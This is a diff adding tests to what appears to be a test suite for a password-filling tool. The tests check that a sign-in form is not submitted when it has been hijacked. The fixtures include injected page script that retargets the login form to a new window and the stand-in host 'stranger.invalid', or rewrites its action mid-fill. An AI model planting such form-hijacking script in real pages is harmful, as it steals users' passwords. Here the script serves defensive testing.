@@ -222,6 +222,39 @@ test.describe('a password that is about to go astray is stopped', () => {
   }
 });
 
+test.describe('a second window gets nothing', () => {
+  for (const [title, page] of [
+    ['for the form itself', PLAIN.replace('<form', '<form target="_blank"')],
+    [
+      'for a form of somebody else',
+      PLAIN.replace(
+        '<button',
+        `<script>document.forms[0].onsubmit = () => {
+        document.forms[0].target = '_blank'; document.forms[0].action = 'http://stranger.invalid/'; }</script><button`,
+      ),
+    ],
+  ] as const) {
+    test(title, async ({ tenant }) => {
+      const came: unknown = await tenant.walk({ signIn: page }).catch((error: unknown) => error);
+      expect(came).toBeInstanceOf(Blocked);
+      expect((came as Error).message).toMatch(
+        /another window when the password was sent|tried to send the password to/,
+      );
+      expect(tenant.came).toEqual([]);
+    });
+  }
+});
+
+test('a form that is turned to another path while it is filled in is not sent', async ({ tenant }) => {
+  const turned = PLAIN.replace(
+    '<button',
+    `<script>document.forms[0].oninput = () => { document.forms[0].action = '/elsewhere'; }</script><button`,
+  );
+  const came: unknown = await tenant.walk({ signIn: turned }).catch((error: unknown) => error);
+  expect(String(came)).toMatch(/The form was turned to \/elsewhere when it was filled in/);
+  expect(tenant.came).toEqual([]);
+});
+
 test('after the password was answered 429 with a list of waits, it is typed once more', async ({
   tenant,
 }) => {
